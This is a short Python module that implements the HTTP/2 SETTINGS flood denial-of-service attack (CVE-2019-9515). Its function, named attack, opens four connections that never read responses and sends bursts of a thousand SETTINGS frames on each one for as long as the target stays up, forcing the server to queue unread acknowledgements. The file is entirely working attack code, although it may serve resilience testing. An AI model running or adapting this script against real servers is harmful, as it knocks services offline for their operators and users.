"""SETTINGS without end, acknowledgements unread (RFC 9113, 10.5; CVE-2019-9515)."""

from wire.http2 import http2, settings


async def attack(target):
    burst = settings((1, 4096)) * 1000

    async def lane(number):
        async with http2(target, target.source(number), reads=False) as it:
            while it and target.goes_on():
                await it.send(burst)

    await target.lanes(4, lane)
